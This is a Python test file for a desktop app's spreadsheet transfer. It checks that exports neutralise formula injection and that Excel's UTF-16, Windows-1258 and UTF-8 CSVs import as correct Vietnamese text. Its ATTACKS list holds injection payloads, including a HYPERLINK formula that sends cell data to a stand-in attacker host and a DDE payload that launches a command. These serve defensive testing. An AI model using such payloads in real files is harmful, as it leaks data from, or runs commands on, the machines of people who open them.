"""Spreadsheets in and out: a typed formula never leaves as one, and Excel's three CSV encodings
come in as the same Vietnamese text."""

from __future__ import annotations

import csv
import io
import unicodedata
import zipfile

import openpyxl
import pytest

from desktop_app.services import records, transfer
from desktop_app.services.spreadsheet_cells import from_csv, to_csv
from desktop_app.store.queries import ListQuery, select_page
from tests.services.test_transfer import HEADING, MODELS, TODAY

ATTACKS = ['=HYPERLINK("http://evil.example/?d="&A2,"Bấm vào đây")', "+1+cmd|' /C calc'!A0", "-2+3",
           "@SUM(1,2)", "\t=1+1", "\r=1+1", "=1+1"]  # fmt: skip


def saved_with_names(names: list[str]) -> None:
    for number, name in enumerate(names):
        records.save(MODELS, {"kind": "mo_hinh", "name": name, "field": "kinh_te", "lead": f"Chi hội {number}",
                              "start_date": "01/03/2026"}, today=TODAY)  # fmt: skip


def stored_names() -> list[str]:
    return sorted(r["name"] for r in select_page(ListQuery(MODELS), 0, 100))


@pytest.mark.parametrize("text", [*ATTACKS, "'quoted", "Ông Lường Văn Pó", "'=already marked"])
def test_the_csv_text_mark_round_trips(text):
    assert from_csv(to_csv(text)) == text


def test_a_csv_export_marks_formulas_as_text_and_import_takes_the_mark_away(commune_db, tmp_path):
    saved_with_names(ATTACKS[:5])  # the register's cleaning trims tabs and returns off a name's ends
    before = stored_names()
    out = tmp_path / "ra.csv"
    transfer.export_file(MODELS, out)
    with out.open(encoding="utf-8-sig", newline="") as handle:
        cells = [cell for row in csv.reader(handle) for cell in row]
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@")]
    assert "'=HYPERLINK(\"http://evil.example/?d=\"&A2,\"Bấm vào đây\")" in cells
    records_before = len(before)
    transfer.import_file(MODELS, out, today=TODAY)  # export → import: corrections of the same records
    assert stored_names() == before and len(select_page(ListQuery(MODELS), 0, 100)) == records_before


def test_an_xlsx_export_holds_no_formula(commune_db, tmp_path):
    saved_with_names(ATTACKS[:5])
    out = tmp_path / "ra.xlsx"
    transfer.export_file(MODELS, out)
    with zipfile.ZipFile(out) as archive:
        sheet = archive.read("xl/worksheets/sheet1.xml").decode("utf-8")
    assert "<f>" not in sheet and "<f " not in sheet  # no formula element in any cell
    book = openpyxl.load_workbook(out)
    values = [cell.value for row in book.active.iter_rows() for cell in row]
    types = {cell.data_type for row in book.active.iter_rows() for cell in row if isinstance(cell.value, str)}
    assert ATTACKS[0] in values and types == {"s"}
    before = stored_names()
    transfer.import_file(MODELS, out, today=TODAY)
    assert stored_names() == before


ROW = ["Mô hình", "Đường hoa Đồng Văn ỷ ỹ ự ữ ẫ ậ", "Văn hóa - xã hội", "Chi hội Phụ nữ", "01/03/2026", "7.000.000",
       ""]  # fmt: skip


def as_csv(rows: list[list[str]], delimiter: str = ",") -> str:
    buffer = io.StringIO()
    csv.writer(buffer, delimiter=delimiter, lineterminator="\r\n").writerows(rows)
    return buffer.getvalue()


def test_excel_unicode_text_utf16_tab_separated_is_read(commune_db, tmp_path):
    path = tmp_path / "unicode.csv"
    path.write_bytes(as_csv([HEADING, ROW], "\t").encode("utf-16"))
    result = transfer.import_file(MODELS, path, today=TODAY)
    assert result.encoding == "utf-16" and "UTF-16" in result.encoding_label
    assert stored_names() == [ROW[1]]


TONES = {"\u0300", "\u0301", "\u0303", "\u0309", "\u0323"}  # the five tone marks, combining


def windows_1258_form(text: str) -> str:
    """``text`` as Windows-1258 spells it: a base letter (â, ơ, ư… are single characters there)
    followed by its tone as a combining mark."""
    spelled = []
    for character in text:
        parts = unicodedata.normalize("NFD", character)
        base = unicodedata.normalize("NFC", "".join(p for p in parts if p not in TONES))
        spelled.append(base + "".join(p for p in parts if p in TONES))
    return "".join(spelled)


def test_windows_1258_with_combining_tones_is_composed(commune_db, tmp_path):
    """Excel's plain "CSV" on a Vietnamese Windows writes Windows-1258, where a tone is a combining
    mark after its letter: the name must come in composed (NFC), as typed."""
    decomposed = windows_1258_form(ROW[1])
    assert decomposed != ROW[1] and "\u0323" in decomposed
    data = windows_1258_form(as_csv([HEADING, ROW])).encode("cp1258", errors="strict")
    path = tmp_path / "excel.csv"
    path.write_bytes(data)
    with pytest.raises(UnicodeDecodeError):  # the bytes really are the legacy code page
        data.decode("utf-8")
    result = transfer.import_file(MODELS, path, today=TODAY)
    assert result.encoding == "cp1258"
    [name] = stored_names()
    assert name == ROW[1] and unicodedata.is_normalized("NFC", name)


@pytest.mark.parametrize("bom", [True, False])
def test_utf8_with_or_without_bom_is_read(commune_db, tmp_path, bom):
    path = tmp_path / "utf8.csv"
    text = as_csv([HEADING, ROW])
    path.write_bytes(text.encode("utf-8-sig" if bom else "utf-8"))
    result = transfer.import_file(MODELS, path, today=TODAY)
    assert result.encoding == "utf-8-sig" and stored_names() == [ROW[1]]


def test_a_file_in_no_known_encoding_is_refused_by_name(commune_db, tmp_path):
    path = tmp_path / "hong.csv"
    path.write_bytes(as_csv([HEADING]).encode("utf-8") + b"\x81\x8d\x8f\x90\n")
    with pytest.raises(transfer.TransferError, match=r"hong\.csv không phải văn bản UTF-8, UTF-16 hay Windows-1258"):
        transfer.import_file(MODELS, path, today=TODAY)
